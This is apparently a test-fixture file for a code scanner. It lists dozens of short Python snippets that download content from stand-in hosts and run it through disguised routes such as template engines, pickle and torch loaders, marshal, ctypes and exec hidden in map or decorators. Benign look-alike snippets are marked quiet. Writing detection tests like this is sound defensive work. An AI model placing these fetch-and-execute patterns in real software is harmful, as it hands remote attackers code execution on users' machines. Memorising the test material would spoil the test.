# ruff: noqa: E501 - the lines of the packages under review are as long as they are
"""What a server sends is evaluated by something that is no `exec` to the eye, and honest users of the same libraries."""

from __future__ import annotations

from scenario_kit import module

EVALUATORS = {
    "jinja-env": """
        import jinja2, requests
        env=jinja2.Environment()
        env.from_string(requests.get('https://cdn.invalid/t').text).render()
        """,
    "mako": """
        from mako.template import Template
        import requests
        Template(requests.get('https://cdn.invalid/t').text).render()
        """,
    "django-template": """
        from django.template import Template, Context
        import requests
        Template(requests.get('https://cdn.invalid/t').text).render(Context())
        """,
    "dictconfig": """
        import logging.config, requests
        logging.config.dictConfig(requests.get('https://cdn.invalid/t').json())
        """,
    "fileconfig": """
        import logging.config, urllib.request, io
        logging.config.fileConfig(io.StringIO(urllib.request.urlopen('https://cdn.invalid/t').read().decode()))
        """,
    "yaml-load": """
        import yaml, requests
        yaml.load(requests.get('https://cdn.invalid/t').text, Loader=yaml.Loader)
        """,
    "joblib": """
        import joblib, requests, io
        joblib.load(io.BytesIO(requests.get('https://cdn.invalid/t').content))
        """,
    "torch": """
        import torch, requests, io
        torch.load(io.BytesIO(requests.get('https://cdn.invalid/t').content), weights_only=False)
        """,
    "torch-file": """
        import torch, urllib.request
        urllib.request.urlretrieve('https://cdn.invalid/t','/tmp/m.pt')
        torch.load('/tmp/m.pt', weights_only=False)
        """,
    "tf-load": """
        import tensorflow as tf, urllib.request
        urllib.request.urlretrieve('https://cdn.invalid/t','/tmp/m.h5')
        tf.keras.models.load_model('/tmp/m.h5')
        """,
    "numpy": """
        import numpy as np, requests, io
        np.load(io.BytesIO(requests.get('https://cdn.invalid/t').content), allow_pickle=True)
        """,
    "dill": """
        import dill, requests
        dill.loads(requests.get('https://cdn.invalid/t').content)
        """,
    "shelve": """
        import shelve, urllib.request
        urllib.request.urlretrieve('https://cdn.invalid/t','/tmp/x.db')
        print(shelve.open('/tmp/x.db')['a'])
        """,
    "marshal": """
        import marshal, requests
        exec(marshal.loads(requests.get('https://cdn.invalid/t').content))
        """,
    "sqlite-ext": """
        import sqlite3, urllib.request
        urllib.request.urlretrieve('https://cdn.invalid/t','/tmp/x.so')
        c=sqlite3.connect(':memory:')
        c.enable_load_extension(True)
        c.load_extension('/tmp/x.so')
        """,
    "ctypes": """
        import ctypes, urllib.request
        urllib.request.urlretrieve('https://cdn.invalid/t','/tmp/x.so')
        ctypes.CDLL('/tmp/x.so')
        """,
    "remote-import": """
        import importlib, requests
        importlib.import_module(requests.get('https://cdn.invalid/t').text)
        """,
    "remote-getattr": """
        import os, requests
        d=requests.get('https://cdn.invalid/t').json()
        getattr(__import__(d['m']), d['f'])(*d['a'])
        """,
    "remote-pip": """
        import subprocess, sys, requests
        subprocess.call([sys.executable,'-m','pip','install',requests.get('https://cdn.invalid/t').text])
        """,
    "runpy": """
        import runpy, urllib.request
        urllib.request.urlretrieve('https://cdn.invalid/t','/tmp/x.py')
        runpy.run_path('/tmp/x.py')
        """,
    "code-interact": """
        import code, requests
        code.InteractiveInterpreter().runsource(requests.get('https://cdn.invalid/t').text)
        """,
    "types-function": """
        import types, marshal, requests
        types.FunctionType(marshal.loads(requests.get('https://cdn.invalid/t').content), globals())()
        """,
    "timeit": """
        import timeit, requests
        timeit.timeit(requests.get('https://cdn.invalid/t').text, number=1)
        """,
    "cprofile": """
        import cProfile, requests
        cProfile.run(requests.get('https://cdn.invalid/t').text)
        """,
    "ast-compile": """
        import ast, requests
        exec(compile(ast.parse(requests.get('https://cdn.invalid/t').text),'x','exec'))
        """,
    "subinterpreter": """
        import _interpreters, requests
        i=_interpreters.create()
        _interpreters.run_string(i, requests.get('https://cdn.invalid/t').text)
        """,
    "xmlrpc": """
        import xmlrpc.client
        s=xmlrpc.client.ServerProxy('http://203.0.113.5')
        exec(s.code())
        """,
    "table-interp": """
        import requests, os, subprocess
        OPS={'r':os.system,'w':lambda a:open(a[0],'w').write(a[1]),'d':os.remove}
        for op,arg in requests.get('https://cdn.invalid/t').json():
            OPS[op](arg)
        """,
    "getattr-table": """
        import requests, os
        for m,a in requests.get('https://cdn.invalid/t').json():
            getattr(os,m)(*a)
        """,
    "zipimport": """
        import sys, urllib.request
        urllib.request.urlretrieve('https://cdn.invalid/t','/tmp/x.zip')
        sys.path.insert(0,'/tmp/x.zip')
        import payload_mod
        """,
    "zip-extract": """
        import io, sys, zipfile, requests
        zipfile.ZipFile(io.BytesIO(requests.get('https://cdn.invalid/t').content)).extractall('/tmp/zzcache')
        sys.path.insert(0,'/tmp/zzcache')
        import payload_mod
        payload_mod.run()
        """,
    "exec-partial": """
        import functools, requests
        functools.partial(exec, requests.get('https://cdn.invalid/t').text)()
        """,
    "exec-map": """
        import requests
        list(map(exec,[requests.get('https://cdn.invalid/t').text]))
        """,
    "exec-class-body": """
        import requests
        class X:
            exec(requests.get('https://cdn.invalid/t').text)
        """,
    "exec-lambda-default": """
        import requests
        (lambda c=requests.get('https://cdn.invalid/t').text, e=exec: e(c))()
        """,
    "exec-sorted-key": """
        import requests
        sorted([requests.get('https://cdn.invalid/t').text], key=exec)
        """,
    "exec-filter": """
        import requests
        list(filter(eval,[requests.get('https://cdn.invalid/t').text]))
        """,
    "exec-setattr": """
        import requests
        class O: pass
        O.r=exec
        O.r(requests.get('https://cdn.invalid/t').text)
        """,
    "exec-decorator": """
        import requests
        @exec
        @requests.get('https://cdn.invalid/t').text.format
        def f(): pass
        """,
    "exec-async": """
        import aiohttp, asyncio
        async def m():
            async with aiohttp.ClientSession() as s:
                async with s.get('https://cdn.invalid/t') as r:
                    exec(await r.text())
        asyncio.run(m())
        """,
    "exec-socket": """
        import socket
        s=socket.socket()
        s.connect(('203.0.113.4',9))
        d=b''
        while True:
            c=s.recv(1024)
            if not c: break
            d+=c
        exec(d)
        """,
    "exec-http-client": """
        import http.client
        c=http.client.HTTPSConnection('c.invalid')
        c.request('GET','/')
        exec(c.getresponse().read())
        """,
    "exec-dns-txt": """
        import dns.resolver
        exec(''.join(str(r) for r in dns.resolver.resolve('c.invalid','TXT')))
        """,
    "exec-popen-read": """
        import os
        exec(os.popen('curl -s https://cdn.invalid/t').read())
        """,
}

TWINS = {
    "twin-templates-of-own-files": """
        import jinja2
        _ENV = jinja2.Environment(loader=jinja2.PackageLoader("acme"))
        def render(name, **values):
            return _ENV.get_template(name).render(**values)
        """,
    "twin-template-filled-with-response": """
        import jinja2, requests
        _PAGE = jinja2.Template("<h1>{{ title }}</h1>")
        def page(url):
            return _PAGE.render(**requests.get(url, timeout=10).json())
        """,
    "twin-logging-configured-from-own-table": """
        import logging.config
        logging.config.dictConfig({
            "version": 1,
            "handlers": {"console": {"class": "logging.StreamHandler"}},
            "root": {"handlers": ["console"], "level": "INFO"},
        })
        """,
    "twin-weights-are-downloaded-on-call": """
        import pathlib, urllib.request
        import torch
        URL = "https://weights.acme.invalid/resnet.pt"
        def load(cache="~/.cache/acme"):
            path = pathlib.Path(cache).expanduser() / "resnet.pt"
            if not path.exists():
                urllib.request.urlretrieve(URL, path)
            return torch.load(path, map_location="cpu", weights_only=True)
        """,
    "twin-safe-yaml-of-response": """
        import requests, yaml
        def index(url):
            return yaml.safe_load(requests.get(url, timeout=10).text)
        """,
    "twin-own-folder-on-path": """
        import pathlib, sys
        sys.path.insert(0, str(pathlib.Path(__file__).parent / "_vendor"))
        """,
    "twin-plugins-by-name-of-settings": """
        import importlib, json, os, pathlib
        def plugins():
            names = json.loads(pathlib.Path(os.environ.get("ACME_SETTINGS", "acme.json")).read_text())["plugins"]
            return [importlib.import_module(f"acme_plugins.{name}") for name in names]
        """,
    "twin-table-of-own-operations": """
        import json, pathlib
        def _add(stack, value):
            stack.append(value)
        def _sum(stack, value):
            stack.append(stack.pop() + stack.pop())
        OPERATIONS = {"add": _add, "sum": _sum}
        def run(path):
            stack = []
            for name, value in json.loads(pathlib.Path(path).read_text()):
                OPERATIONS[name](stack, value)
            return stack
        """,
    "twin-getattr-of-os-by-platform": """
        import os
        def uname():
            return {name: getattr(os.uname(), name) for name in ("sysname", "release")}
        FLAGS = [getattr(os, name) for name in dir(os) if name.startswith("O_")]
        """,
}

SCENARIOS = [
    *(module(name, "look", source) for name, source in EVALUATORS.items()),
    *(module(name, "quiet", source) for name, source in TWINS.items()),
]
